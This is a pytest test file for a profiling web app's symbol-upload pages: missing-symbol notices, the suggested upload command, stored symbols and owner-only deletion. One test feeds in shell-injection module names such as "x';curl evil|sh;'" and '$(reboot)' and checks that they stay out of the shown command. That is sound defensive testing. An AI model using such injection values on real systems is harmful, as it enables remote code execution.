"""What pages say of symbols: which are missing, how to bring them, what is stored."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from webapp.runs.models import Run
from webapp.teams.models import User

COMMAND = "memflame symbols upload {path} --server http://testserver --project search-api"


@pytest.fixture
def page(story: Any, as_user: Callable[[User], Client]) -> Callable[..., str]:
    return lambda address, user=story.alice: as_user(user).get(address).content.decode()


@pytest.mark.usefixtures("eager_worker")
def test_a_run_says_whose_symbols_it_lacks_until_it_has_them(
    ci: Any, page: Callable[..., str], uploaded_run: Callable[..., Run], folded_of: Callable[..., bytes], program: Any
) -> None:
    run = uploaded_run(folded_of(program, build_id=program.build_id))

    before = page(f"/runs/{run.run_id}")
    ci.send("/projects/search-api/symbols?name=shop", program.debug.read_bytes())
    after = page(f"/runs/{run.run_id}")

    assert "97.7\N{NO-BREAK SPACE}% of the value passes through" in before
    assert COMMAND.format(path="shop") in before and program.build_id[:8] in before
    assert "memflame symbols upload" not in after


def test_the_command_has_the_path_that_the_profile_tells(
    page: Callable[..., str], uploaded_run: Callable[..., Run], heap_of: Callable[..., bytes], program: Any
) -> None:
    run = uploaded_run(heap_of(program))

    assert COMMAND.format(path="/srv/shop") in page(f"/runs/{run.run_id}")


@pytest.mark.parametrize("name", ["$(reboot)", "a b", "-rf", "x';curl evil|sh;'", "\N{RIGHT-TO-LEFT OVERRIDE}x"])
def test_a_name_that_a_shell_would_obey_is_not_in_the_command(
    page: Callable[..., str], uploaded_run: Callable[..., Run], folded_of: Callable[..., bytes], program: Any, name: str
) -> None:  # fmt: skip
    run = uploaded_run(folded_of(program, build_id=program.build_id, module=name))

    assert COMMAND.format(path="BINARY") in page(f"/runs/{run.run_id}")


def test_a_function_and_an_offset_in_it_is_nothing_that_symbols_are_asked_for(
    page: Callable[..., str], uploaded_run: Callable[..., Run]
) -> None:
    run = uploaded_run(b"main;eval_loop+0x2a1b;malloc 4096\n")

    assert "memflame symbols upload" not in page(f"/runs/{run.run_id}")


@pytest.mark.usefixtures("eager_worker")
def test_settings_tell_what_is_needed_and_what_is_stored_and_owners_delete(
    story: Any, as_user: Callable[[User], Client], ci: Any, page: Callable[..., str], uploaded_run: Callable[..., Run],
    folded_of: Callable[..., bytes], program: Any,
) -> None:  # fmt: skip
    uploaded_run(folded_of(program, build_id=program.build_id))
    needing = page("/p/search-api/settings")
    sha256 = ci.send("/projects/search-api/symbols?name=shop", program.debug.read_bytes()).json()["sha256"]
    stored = page("/p/search-api/settings")
    delete = f"/p/search-api/symbols/{sha256}/delete"

    assert "Symbols that runs need" in needing and program.build_id in needing
    assert "Symbols that runs need" not in stored and "debug file, with inlined functions" in stored
    assert delete in stored and delete not in page("/p/search-api/settings", story.bob)
    assert as_user(story.bob).post(delete).status_code == 403
    assert as_user(story.charlie).post(delete).status_code == 404
    assert as_user(story.alice).post(delete).status_code == 302
    assert "No names" not in page("/p/search-api/settings") and delete not in page("/p/search-api/settings")
